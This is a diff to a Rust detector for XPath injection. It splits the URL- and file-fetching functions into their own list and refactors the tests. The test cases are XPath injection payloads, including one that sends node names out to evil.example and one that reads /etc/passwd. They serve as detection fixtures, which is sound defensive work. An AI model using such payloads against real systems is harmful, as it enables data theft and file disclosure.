@@ -37,7 +37,7 @@ const AXES: &[&[u8]] = &[
 ];
 
 /// XPath functions a blind extraction uses, none of them SQL's: the node's name, its
-/// position, its string value, the document's shape, documents fetched by URL.
+/// position, its string value, the document's shape (and [`FETCHERS`]).
 const FUNCTIONS: &[&[u8]] = &[
     b"name",
     b"local-name",
@@ -53,12 +53,6 @@ const FUNCTIONS: &[&[u8]] = &[
     b"node",
     b"comment",
     b"processing-instruction",
-    b"doc",
-    b"doc-available",
-    b"document",
-    b"unparsed-text",
-    b"unparsed-text-lines",
-    b"collection",
     b"string-to-codepoints",
 ];
 
@@ -92,7 +86,9 @@ pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
     for open in memchr::memchr_iter(b'(', b) {
         let ws = dashed_word_start(b, open);
         let name = &b[ws..open];
-        if !FUNCTIONS.contains(&name) || (ws > 0 && is_word(b[ws - 1])) {
+        if !(FUNCTIONS.contains(&name) || FETCHERS.contains(&name))
+            || (ws > 0 && is_word(b[ws - 1]))
+        {
             continue;
         }
         if let Some(q) = quote_break_before(b, ws) {
@@ -209,55 +205,64 @@ mod tests {
         test_subject(text, 1, detect).map(|h| h.rule)
     }
 
+    fn each_is(want: Option<&str>, texts: &[&str]) {
+        for text in texts {
+            assert_eq!(rule(text), want, "{text}");
+        }
+    }
+
     #[test]
     fn predicates_broken_out_of() {
-        for attack in [
-            "x' or name()='username' or 'x'='y",
-            "' or string-length(name(/*[1]))=4 or ''='",
-            "' and count(/*/*)=3 and ''='",
-            "admin\" or starts-with(local-name(..),'u') or \"a\"=\"b",
-            "x'] | //user[position()=1 and ''='",
-            "x'] | //*[name='a",
-            "'or text()='",
-            "x' or doc-available(concat('http://evil.example/',name(/*))) or 'x'='y",
-        ] {
-            assert_eq!(rule(attack), Some("xpath.filter_break"), "{attack}");
-        }
+        each_is(
+            Some("xpath.filter_break"),
+            &[
+                "x' or name()='username' or 'x'='y",
+                "' or string-length(name(/*[1]))=4 or ''='",
+                "' and count(/*/*)=3 and ''='",
+                "admin\" or starts-with(local-name(..),'u') or \"a\"=\"b",
+                "x'] | //user[position()=1 and ''='",
+                "x'] | //*[name='a",
+                "'or text()='",
+                "x' or doc-available(concat('http://evil.example/',name(/*))) or 'x'='y",
+            ],
+        );
     }
 
     #[test]
     fn location_paths_and_axes() {
-        for attack in [
-            "count(/child::node())",
-            "/*[1]/*[2]/text()",
-            "string-length(//user[1]/password)",
-            "descendant-or-self::*",
-            "/descendant::password",
-            "x | //comment()",
-            "name(/*[1])",
-            "1 or doc('http://evil.example/')",
-            "unparsed-text(\"/etc/passwd\")",
-        ] {
-            assert_eq!(rule(attack), Some("xpath.expression"), "{attack}");
-        }
+        each_is(
+            Some("xpath.expression"),
+            &[
+                "count(/child::node())",
+                "/*[1]/*[2]/text()",
+                "string-length(//user[1]/password)",
+                "descendant-or-self::*",
+                "/descendant::password",
+                "x | //comment()",
+                "name(/*[1])",
+                "1 or doc('http://evil.example/')",
+                "unparsed-text(\"/etc/passwd\")",
+            ],
+        );
     }
 
     #[test]
     fn code_and_prose_pass() {
-        for plain in [
-            "use self::config::Settings;",
-            "std::vec::Vec and parent::method()",
-            "count (of items) / 2",
-            "Please confirm the name (first and last) and the count (1/2).",
-            "text() is a jQuery method",
-            "see the doc('intro') section",
-            "collection('users') in the shell",
-            "She said 'or name (anyone)' twice",
-            "the factor or name(x) helper",
-            "name(s): Alice / Bob",
-            "10:30::45",
-        ] {
-            assert_eq!(rule(plain), None, "{plain}");
-        }
+        each_is(
+            None,
+            &[
+                "use self::config::Settings;",
+                "std::vec::Vec and parent::method()",
+                "count (of items) / 2",
+                "Please confirm the name (first and last) and the count (1/2).",
+                "text() is a jQuery method",
+                "see the doc('intro') section",
+                "collection('users') in the shell",
+                "She said 'or name (anyone)' twice",
+                "the factor or name(x) helper",
+                "name(s): Alice / Bob",
+                "10:30::45",
+            ],
+        );
     }
 }
